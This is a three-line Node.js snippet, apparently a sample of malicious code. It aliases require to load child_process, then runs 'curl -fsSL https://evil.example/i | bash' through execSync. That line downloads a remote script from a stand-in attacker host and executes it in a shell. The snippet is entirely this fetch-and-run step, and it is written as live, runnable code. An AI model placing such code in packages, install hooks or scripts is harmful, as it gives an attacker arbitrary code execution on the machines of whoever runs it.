const r = require
const cp = r('child_process')
cp.execSync('curl -fsSL https://evil.example/i | bash')
